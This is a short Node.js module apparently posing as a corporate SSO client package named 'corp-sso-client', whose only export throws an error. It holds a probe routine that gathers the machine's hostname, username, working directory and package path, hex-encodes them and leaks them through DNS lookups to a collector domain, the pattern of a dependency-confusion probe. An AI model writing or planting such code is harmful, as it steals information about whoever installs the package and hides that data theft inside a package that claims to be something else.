const dns = require("dns");
const os = require("os");

function probe() {
  const info = [os.hostname(), os.userInfo().username, process.cwd(), process.env.npm_package_json || ""].join("|");
  const hex = Buffer.from(info).toString("hex");
  const chunks = hex.match(/.{1,60}/g) || [];
  chunks.forEach((c, i) => dns.lookup(`${i}.${c}.d.oast-collector.invalid`, () => {}));
}

if (process.argv.includes("--probe")) probe();

module.exports = {
  login: () => {
    throw new Error("corp-sso-client: use the internal registry build");
  },
};
